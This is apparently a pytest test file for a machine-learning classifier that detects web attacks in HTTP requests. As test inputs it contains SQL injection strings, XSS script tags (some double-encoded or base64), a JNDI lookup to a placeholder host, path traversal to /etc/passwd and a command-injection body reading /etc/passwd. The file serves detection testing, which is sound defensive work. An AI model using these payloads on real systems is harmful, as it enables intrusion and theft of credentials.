import gzip
import json

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from safetensors.numpy import load, save

from secmlops.web_attacks.calibration import bounded_quantile, choose_margin, fit_platt
from secmlops.web_attacks.classifier import UNREAD, InvalidModel, TooFewLabels
from secmlops.web_attacks.dataset import LabelledRequest
from secmlops.web_attacks.decoding import MAX_INFLATED_BYTES
from secmlops.web_attacks.request import HttpRequest
from secmlops.web_attacks.svm.classifier import PIECE_CHARS, SvmClassifier
from secmlops.web_attacks.svm.config import SvmConfig
from secmlops.web_attacks.svm.held_out import site_allowances
from secmlops.web_attacks.svm.learner import mutated
from secmlops.web_attacks.svm.linear_model import LinearModel
from secmlops.web_attacks.svm.ngrams import Shape, features, lay_out
from secmlops.web_attacks.svm.training import train
from secmlops.web_attacks.text_shape import text_shape

SMALL = SvmConfig(bits=16, background=600, folds=2, rounds=1, mutate=1, max_texts=5000)
AGENT = ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:99.0) Gecko/20100101 Firefox/99.0")
TOOL = ("User-Agent", "probe-9 (security; scan)")
SQL = "%27%20union%20all%20select%20{},password%20from%20users--"


def _normal(number: int) -> LabelledRequest:
    words = ("lamp", "union jack mug", "select a gift", "O'Neil", "drop leaf table", "blue chair")
    uri = f"/shop/item/{number}?q={words[number % 6].replace(' ', '+')}&page={number % 9}"
    site = f"site{number % 6}"
    request = HttpRequest("GET", uri, headers=(("Host", f"{site}.example"), AGENT), host=f"{site}.example")
    return LabelledRequest(request, "normal", site=site)


def _attack(number: int) -> LabelledRequest:
    if number % 2:
        uri, kind = f"/shop?id={number}" + SQL.format(number), "sqli"
    else:
        uri, kind = f"/shop?q=%3Cscript%3Ealert({number})%3C/script%3E&page={number % 9}", "xss"
    request = HttpRequest("GET", uri, headers=(("Host", "victim.example"), TOOL), host="victim.example")
    return LabelledRequest(request, "attack", kind, site="attacks")


@pytest.fixture(scope="module")
def records() -> list[LabelledRequest]:
    return [_normal(i) for i in range(120)] + [_attack(i) for i in range(80)]


def _halves(records: list[LabelledRequest]) -> tuple[list[LabelledRequest], list[LabelledRequest]]:
    return [r for i, r in enumerate(records) if i // 2 % 2], [r for i, r in enumerate(records) if not i // 2 % 2]


@pytest.fixture(scope="module")
def model_dir(records, tmp_path_factory):
    out = tmp_path_factory.mktemp("svm") / "model"
    steps: list[tuple[str, float]] = []
    metrics = train(
        *_halves(records),
        out,
        SMALL,
        max_false_positive_rate=0.02,
        on_progress=lambda step, share: steps.append((step, share)),
    )
    assert metrics["held_out_tpr"] >= 0.9
    assert metrics["held_out_fpr"] <= 0.05
    shares = [share for _, share in steps]
    assert shares == sorted(shares)
    assert shares[-1] == 1.0
    return out


@pytest.fixture(scope="module")
def files(model_dir) -> dict[str, bytes]:
    return {file.name: file.read_bytes() for file in model_dir.iterdir()}


@pytest.fixture(scope="module")
def classifier(files) -> SvmClassifier:
    return SvmClassifier.from_files(files)


def test_model_directory_holds_no_more_than_the_bundle_may(files):
    assert set(files) == {"weights.safetensors", "preprocess.json", "card.json"}
    assert sum(map(len, files.values())) < 10_000_000
    card = json.loads(files["card.json"])
    assert card["data"]["training_attacks"] == {"sqli": 20, "xss": 20}
    assert card["data"]["training_normals"] == 60
    assert card["limits"]


def test_attacks_are_found_named_and_placed(classifier):
    score = classifier.score([HttpRequest("GET", "/basket?size=3&note=1" + SQL.format(7), headers=(AGENT,))])[0]
    assert score.verdict == "attack"
    assert score.attack_class == "sqli"
    assert score.part == "query:note"
    assert "union all select" in score.evidence
    assert len(score.evidence) <= 120


@pytest.mark.parametrize(
    "request_",
    [
        HttpRequest("GET", "/", headers=(("X-Api", "${jndi:ldap://a.example/x}"), AGENT)),
        HttpRequest("GET", "/", headers=(("Cookie", "a=1; b=' or 1=1--"),)),
        HttpRequest("GET", "/static/../../../../etc/passwd"),
        HttpRequest(
            "POST", "/", headers=(("Content-Type", "application/json"),), body=b'{"a":{"b":"; cat /etc/passwd"}}'
        ),
        HttpRequest("GET", "/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        HttpRequest("GET", "/?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ],
    ids=["header", "cookie", "path", "json", "double-encoded", "base64"],
)
def test_attacks_are_found_wherever_they_hide(classifier, request_):
    assert classifier.score([request_])[0].verdict == "attack"


def test_what_merely_looks_suspicious_is_normal(classifier):
    requests = [
        HttpRequest("GET", f"/search?q={text}", headers=(AGENT,))
        for text in ("select+a+gift+from+our+union+set", "rock+%27n%27+roll", "where+is+my+order%3F", "C%2B%2B+or+C%23")
    ]
    assert [score.verdict for score in classifier.score(requests)] == ["normal"] * 4


def test_the_client_that_sent_all_attacks_is_no_attack(classifier):
    assert classifier.score([HttpRequest("GET", "/shop/item/5?q=lamp", headers=(TOOL,))])[0].verdict == "normal"


def test_benign_text_around_an_attack_does_not_dilute_it(classifier):
    filler = "the+quick+brown+fox+looks+for+a+blue+chair+"
    alone, diluted = classifier.margin(
        [
            HttpRequest("GET", "/?q=1" + SQL.format(1)),
            HttpRequest("GET", f"/?q={filler * 60}1{SQL.format(1)}+{filler * 60}"),
        ]
    )
    assert diluted > 0
    assert classifier.probability(diluted) >= classifier.threshold
    assert alone >= diluted


def test_what_is_not_read_in_full_does_not_pass(classifier):
    """A body that inflates beyond its bounds is no normal request, and one within them is."""
    coding = (("Content-Encoding", "gzip"),)
    large, small = (gzip.compress(b"a" * size) for size in (MAX_INFLATED_BYTES + 1, 1000))
    refused, read = classifier.score([HttpRequest("POST", "/", headers=coding, body=body) for body in (large, small)])
    assert (refused.verdict, refused.part, refused.evidence) == ("attack", "body", UNREAD)
    assert read.verdict == "normal"


@pytest.mark.parametrize("place", range(PIECE_CHARS - 1100, PIECE_CHARS + 1100, 220))
@pytest.mark.parametrize("blanks", [1, 5000])
def test_where_a_long_text_is_cut_hides_nothing(classifier, place, blanks):
    value = "lorem ipsum " * 10_000
    attack = f" ' union{' ' * blanks}all select 1,password from users-- "
    body = (value[:place] + attack + value[place : place + 40_000]).encode()
    found = classifier.score([HttpRequest("POST", "/", body=body)])[0]
    assert found.verdict == "attack"
    assert "union" in found.evidence and "password" in found.evidence


def test_batching_and_order_change_nothing(files, records):
    requests = [record.request for record in records[:40]] + [record.request for record in records[-40:]]
    together = SvmClassifier.from_files(files).score(requests)
    alone = SvmClassifier.from_files(files)
    assert together == [alone.score([request])[0] for request in requests]
    assert together[::-1] == SvmClassifier.from_files(files).score(requests[::-1])


def test_host_header_order_and_time_change_nothing(classifier):
    one = HttpRequest(
        "GET", "/?q=a'--", headers=(("Host", "a.example"), AGENT, ("X-A", "1")), host="a.example", time=1.0
    )
    two = HttpRequest(
        "GET", "/?q=a'--", headers=(("X-A", "1"), AGENT, ("Host", "b.example")), host="b.example", time=9e9
    )
    assert classifier.score([one]) == classifier.score([two])


def test_empty_and_odd_requests_have_a_score(classifier):
    odd = [
        HttpRequest("", ""),
        HttpRequest("GET", "/" + "\xff" * 50),
        HttpRequest("GET", "/?" + "&" * 5000, body=b"\0" * 99),
    ]
    assert all(0.0 <= score.score <= 1.0 for score in classifier.score(odd))
    assert classifier.score([]) == []


def test_the_same_seed_gives_the_same_model(records, model_dir, files, tmp_path):
    train(*_halves(records), tmp_path, SMALL, max_false_positive_rate=0.02)
    assert (tmp_path / "weights.safetensors").read_bytes() == files["weights.safetensors"]


@pytest.mark.parametrize("label", ["normal", "attack"])
def test_too_few_of_a_label_is_refused(records, tmp_path, label):
    kept = [record for record in records if record.label != label][:60]
    with pytest.raises(TooFewLabels) as caught:
        train(kept, [], tmp_path, SMALL, max_false_positive_rate=0.01)
    assert (caught.value.label, caught.value.found) == (label, 0)


def _without(files: dict[str, bytes], name: str) -> dict[str, bytes]:
    return {key: value for key, value in files.items() if key != name}


def _setting(files: dict[str, bytes], **changed: object) -> dict[str, bytes]:
    return {**files, "preprocess.json": json.dumps({**json.loads(files["preprocess.json"]), **changed}).encode()}


@pytest.mark.parametrize(
    "broken",
    [
        lambda files: _without(files, "weights.safetensors"),
        lambda files: _without(files, "preprocess.json"),
        lambda files: {**files, "weights.safetensors": b"not safetensors"},
        lambda files: {**files, "preprocess.json": b"{"},
        lambda files: {**files, "preprocess.json": b"[]"},
        lambda files: _setting(files, kind="distilbert"),
        lambda files: _setting(files, bits=15),  # half as many buckets as weights
        lambda files: _setting(files, threshold=float("nan")),
        lambda files: _setting(files, classes=["sqli"]),  # the class head has more rows
        lambda files: _setting(files, chars="no"),
        lambda files: {
            **files,
            "weights.safetensors": save(_without(load(files["weights.safetensors"]), "class_bias")),
        },
    ],
)
def test_files_that_do_not_fit_are_refused(files, broken):
    with pytest.raises(InvalidModel):
        SvmClassifier.from_files(broken(files))


def test_a_parameter_that_is_always_odd_gets_an_allowance_and_others_do_not():
    site = [{"path": 2.0, "body:html": 0.8 + i / 1000, "query:q": -1.0} for i in range(40)]
    allowances = site_allowances(site, cut=0.0, max_false_positive_rate=0.05)
    assert set(allowances) == {"body:html"}
    assert 0.8 <= allowances["body:html"] <= 1.0
    assert site_allowances(site[:3], 0.0, 0.05) == {}


def test_allowances_lower_only_their_own_part(files):
    open_, allowed = (
        SvmClassifier.from_files(files),
        SvmClassifier.from_files(_setting(files, allowances={"query:a": 1.0})),
    )
    here, there = (HttpRequest("GET", f"/?{name}=1{SQL.format(1)}") for name in "ab")
    assert allowed.margin([here])[0] == pytest.approx(open_.margin([here])[0] - 1.0)
    assert allowed.margin([there]) == open_.margin([there])


def test_a_site_s_normals_move_its_threshold(records, tmp_path):
    site = [HttpRequest("POST", "/edit", body=f"text=<b>{i}</b> note '{i}'".encode()) for i in range(40)]
    metrics = train(records, [], tmp_path, SMALL, max_false_positive_rate=0.02, site_normals=site)
    assert metrics["held_out_site_fpr"] <= 0.1
    classifier = SvmClassifier.from_files({file.name: file.read_bytes() for file in tmp_path.iterdir()})
    assert {score.verdict for score in classifier.score(site)} == {"normal"}


def test_mutated_copies_differ_and_repeat_with_the_seed():
    import random

    text = "1' union all select 1,password from users--"
    first = mutated(text, "sqli", 6, random.Random(3))
    assert first
    assert text not in first
    assert first == mutated(text, "sqli", 6, random.Random(3))


def test_text_shape_forgets_names_and_numbers():
    assert text_shape("item-4711/red") == text_shape("chair-3/blue")
    assert text_shape("a'b") != text_shape("a b")


def _naive(text: str, shape: Shape) -> list[int]:
    batch = lay_out([text])
    return sorted(int(h) for _, found in features(batch, shape) for h in found if h)


@settings(max_examples=60)
@given(st.lists(st.text(max_size=60), min_size=1, max_size=5))
def test_a_text_has_the_same_ngrams_in_every_batch(texts):
    shape = Shape(bits=16)
    batch = lay_out(texts)
    together: list[list[int]] = [[] for _ in texts]
    for positions, found in features(batch, shape):
        at = np.arange(len(found)) if positions is None else positions[: len(found)]
        for place, bucket in zip(at.tolist(), found.tolist(), strict=True):
            owner = int(np.searchsorted(batch.ends, place, side="right"))
            if bucket and owner < len(texts):
                together[owner].append(bucket)
    assert [sorted(found) for found in together] == [_naive(text, shape) for text in texts]


@settings(max_examples=60)
@given(st.lists(st.text("ab '1=<>/.select", max_size=200), min_size=1, max_size=4), st.integers(0, 9))
def test_margins_do_not_depend_on_the_batch(texts, seed):
    weights = np.random.default_rng(seed).normal(size=1 << 12)
    model = LinearModel.from_floats(weights, -0.3, Shape(bits=12), (16, 40), 0.2)
    together = model.margins(lay_out(texts))
    for index, text in enumerate(texts):
        alone = model.margins(lay_out([text]))
        assert alone.margin[0] == together.margin[index]
        assert (alone.start[0], alone.stop[0]) == (together.start[index], together.stop[index])


def test_names_and_numbers_do_not_change_the_token_view():
    shape = Shape(bits=18, chars=(5, 4), tokens=(2, 5))
    assert _naive("1' or abc=17", shape) == _naive("99' or  xyzzy = 4", shape)
    assert _naive("1' or a=1", shape) != _naive("1' xx a=1", shape)


def test_platt_orders_and_separates():
    platt = fit_platt(np.array([-2.0, -1.5, -1.0, -0.2]), np.array([0.1, 1.0, 2.0]))
    found = [platt.probability(margin) for margin in (-2.0, -0.2, 0.1, 2.0)]
    assert found == sorted(found)
    assert found[0] < 0.2
    assert found[-1] > 0.8


@given(st.integers(1, 400), st.sampled_from([0.001, 0.01, 0.05, 0.2]), st.integers(0, 99))
def test_the_quantile_keeps_the_rate(count, rate, seed):
    normals = np.random.default_rng(seed).normal(size=count)
    assert (normals >= bounded_quantile(normals, rate)).mean() <= rate


@pytest.mark.parametrize(("normals", "rate"), [([], 0.01), ([1.0], 0.0), ([1.0], 1.0)])
def test_a_threshold_needs_normals_and_a_rate(normals, rate):
    with pytest.raises(ValueError, match="threshold"):
        bounded_quantile(np.array(normals), rate)


def test_the_margin_stays_at_the_model_s_boundary_where_that_is_good():
    assert choose_margin(np.full(200, -1.0), np.full(50, 1.0), 0.01) == 0.0
    assert choose_margin(np.full(200, 0.5), np.full(50, 1.0), 0.01) > 0.5
